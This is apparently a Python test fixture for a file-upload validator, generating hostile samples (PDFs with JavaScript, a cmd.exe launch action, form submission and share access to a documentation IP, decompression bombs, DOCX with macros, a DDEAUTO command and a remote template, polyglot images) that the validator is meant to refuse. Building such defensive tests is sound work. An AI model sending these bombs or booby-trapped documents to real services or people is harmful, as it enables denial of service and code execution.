"""Hostile evidence, made here: each entry is a file's name and its bytes. No binary is kept in the repository."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from PIL import Image, PngImagePlugin

from .files import jpeg_bytes, office_bytes, pdf_bytes, png_bytes

RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def pdf_with(change: Callable[[pikepdf.Pdf], object]) -> bytes:
    out = io.BytesIO()
    document = pikepdf.new()
    document.add_blank_page()
    change(document)
    document.save(out)
    return out.getvalue()


def _action(**keys: object) -> Callable[[pikepdf.Pdf], object]:
    def change(document: pikepdf.Pdf) -> None:
        named = {f"/{name}": value for name, value in keys.items()}
        document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(named))

    return change


def _javascript_in_names(document: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary({"/S": pikepdf.Name.JavaScript, "/JS": "app.alert(1)"})
    document.Root.Names = pikepdf.Dictionary({"/JavaScript": pikepdf.Dictionary({"/Names": ["a", script]})})


def _script_deep_in_a_field(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary({"/K": pikepdf.Dictionary({"/S": pikepdf.Name.JavaScript, "/JS": "x"})})
    field = pikepdf.Dictionary({"/Subtype": pikepdf.Name.Link, "/AA": action, "/Rect": [0, 0, 1, 1]})
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(field)])


def _archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.exe", b"MZ")
        archive.comment = b"%%EOF"
    return out.getvalue()


def _attached(document: pikepdf.Pdf) -> None:
    document.attachments["rechnung.exe"] = b"MZ"


def _film(document: pikepdf.Pdf) -> None:
    document.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary({"/Subtype": pikepdf.Name.RichMedia})])


def _xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary({"/XFA": document.make_stream(b"<xdp/>"), "/Fields": []})


def _deep(document: pikepdf.Pdf) -> None:
    inner = pikepdf.Dictionary({"/A": 1})
    for _level in range(60):
        inner = pikepdf.Dictionary({"/A": inner})
    document.Root.Deep = inner


def pdf_bomb() -> bytes:
    """An object stream of 1 MB that unpacks to a gigabyte."""
    packed = _packed_spaces(1 << 30)
    head = b"%PDF-1.5\n"
    body = b"5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    return head + body + packed + b"\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def _packed_spaces(size: int) -> bytes:
    packer = zlib.compressobj(9)
    parts = [packer.compress(b"1 0 ")]
    portion = b" " * (1 << 20)
    parts += [packer.compress(portion) for _number in range(size >> 20)]
    return b"".join([*parts, packer.flush()])


def png_bomb(width: int, height: int) -> bytes:
    """A PNG of a few bytes that claims very many pixels."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack("!I", len(content)) + kind + content + struct.pack("!I", zlib.crc32(kind + content))

    head = chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    """A small picture with a text that unpacks to 100 MB."""
    info = PngImagePlugin.PngInfo()
    info.add_text("k", "a" * 100_000_000, zip=True)
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def scans_bomb() -> bytes:
    """A progressive JPEG whose scans are repeated five thousand times."""
    content = jpeg_bytes((64, 64), progressive=True)
    start = content.index(b"\xff\xda")
    return content[:start] + content[start:-2] * 5000 + b"\xff\xd9"


def relation(kind: str, target: str, mode: str = 'TargetMode="External"') -> bytes:
    return RELATIONS.format(f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" {mode}/>').encode()


def zip_bomb(kind: str = "docx", megabytes: int = 300) -> bytes:
    return office_bytes(kind, {"word/media/a.bmp": b"\0" * (megabytes << 20)})


def lying_zip() -> bytes:
    """A member of 30 MB that claims 10 bytes in the directory."""
    content = bytearray(office_bytes("docx", {"word/media/a.bmp": b"\0" * (30 << 20)}))
    size = struct.pack("<I", 30 << 20)
    while (at := bytes(content).find(size)) >= 0:
        content[at : at + 4] = struct.pack("<I", 10)
    return bytes(content)


def encrypted_zip() -> bytes:
    content = bytearray(office_bytes("docx", {"word/a.xml": b"<x/>"}))
    at = bytes(content).index(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def twice_in_zip() -> bytes:
    out = io.BytesIO(office_bytes("docx"))
    with zipfile.ZipFile(out, "a") as container:
        container.writestr("word/document.xml", "<y/>")
    return out.getvalue()


def hostile() -> dict[str, tuple[str, Callable[[], bytes]]]:
    """What it is: the name it comes under and what makes its bytes; all must be refused, quickly and cheaply."""
    name, launch = pikepdf.Name, pikepdf.Name.Launch
    return {
        "pdf: script at opening": ("a.pdf", lambda: pdf_with(_action(S=name.JavaScript, JS="app.alert(1)"))),
        "pdf: script in the names": ("a.pdf", lambda: pdf_with(_javascript_in_names)),
        "pdf: script deep in a field": ("a.pdf", lambda: pdf_with(_script_deep_in_a_field)),
        "pdf: starts a program": ("a.pdf", lambda: pdf_with(_action(S=launch, F="cmd.exe"))),
        "pdf: sends a form": ("a.pdf", lambda: pdf_with(_action(S=name.SubmitForm, F="http://192.0.2.1/"))),
        "pdf: opens an attachment": ("a.pdf", lambda: pdf_with(_action(S=name.GoToE, T=pikepdf.Dictionary()))),
        "pdf: calls an address": ("a.pdf", lambda: pdf_with(_action(S=name.URI, URI="http://192.0.2.1/"))),
        "pdf: opens a share": ("a.pdf", lambda: pdf_with(_action(S=name.GoToR, F=r"\\\\192.0.2.1\\a"))),
        "pdf: another file behind it": ("a.pdf", lambda: pdf_with(lambda _document: None) + _archive()),
        "pdf: page behind it": ("a.pdf", lambda: pdf_with(lambda _document: None) + b"\n<script>"),
        "pdf: attachment": ("a.pdf", lambda: pdf_with(_attached)),
        "pdf: film": ("a.pdf", lambda: pdf_with(_film)),
        "pdf: form with program": ("a.pdf", lambda: pdf_with(_xfa)),
        "pdf: very deep": ("a.pdf", lambda: pdf_with(_deep)),
        "pdf: object stream of a gigabyte": ("a.pdf", lambda: pdf_bomb()),
        "pdf: cut": ("a.pdf", lambda: pdf_bytes()[:200]),
        "pdf: zip behind a head": ("a.pdf", lambda: b"%PDF-1.7\n" + office_bytes("docx")),
        "png: claims 4 gigapixels": ("a.png", lambda: png_bomb(65_500, 65_500)),
        "png: claims 60 megapixels": ("a.png", lambda: png_bomb(10_000, 6_000)),
        "png: colours of 49 megapixels, no data": ("a.png", lambda: png_bomb(7_000, 7_000)),
        "png: text of 100 MB": ("a.png", lambda: png_text_bomb()),
        "png: cut": ("a.png", lambda: png_bytes()[:-40]),
        "jpeg: five thousand scans": ("a.jpg", lambda: scans_bomb()),
        "jpeg: cut": ("a.jpg", lambda: jpeg_bytes((400, 300))[:700]),
        "jpeg: page of the web behind a head": ("a.jpg", lambda: b"\xff\xd8\xff<script>alert(1)</script>"),
        "svg named png": ("a.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        "gif named jpg": ("a.jpg", lambda: b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
        "docx: unpacks to 300 MB": ("a.docx", lambda: zip_bomb()),
        "docx: lies about a size": ("a.docx", lambda: lying_zip()),
        "docx: encrypted member": ("a.docx", lambda: encrypted_zip()),
        "docx: a part twice": ("a.docx", lambda: twice_in_zip()),
        "docx: cut": ("a.docx", lambda: office_bytes("docx")[:-30]),
        "docx: macros": ("a.docx", lambda: office_bytes("docx", {"word/vbaProject.bin": b"x"})),
        "docx: declared with macros": (
            "a.docx",
            lambda: office_bytes("docx", content_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        ),
        "docx: active control": ("a.docx", lambda: office_bytes("docx", {"word/activeX/activeX1.xml": b"<x/>"})),
        "docx: embedded program": ("a.docx", lambda: office_bytes("docx", {"word/embeddings/oleObject1.bin": b"x"})),
        "docx: template from outside": (
            "a.docx",
            lambda: office_bytes(
                "docx", {"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://192.0.2.1/t")}
            ),
        ),
        "docx: picture from outside, spelt with references": (
            "a.docx",
            lambda: office_bytes(
                "docx",
                {"word/_rels/document.xml.rels": relation("image", "a&gt;b", 'TargetMode="&#69;xternal"')},
            ),
        ),
        "docx: command in a field": ("a.docx", lambda: office_bytes("docx", {"word/a.xml": b"<w>DDEAUTO c:\\cmd</w>"})),
        "docx: entities": (
            "a.docx",
            lambda: office_bytes("docx", {"word/a.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}),
        ),
        "xlsx: workbook elsewhere": (
            "a.xlsx",
            lambda: office_bytes("xlsx", {"xl/_rels/workbook.xml.rels": relation("externalLink", "file:///c:/x.xlsx")}),
        ),
        "xlsx: macro sheet": ("a.xlsx", lambda: office_bytes("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"})),
        "xlsx named docx": ("a.docx", lambda: office_bytes("xlsx")),
        "plain zip": ("a.docx", lambda: office_bytes("")),
        "old word": ("a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500),
        "program": ("a.pdf", lambda: b"MZ\x90\0" * 100),
    }
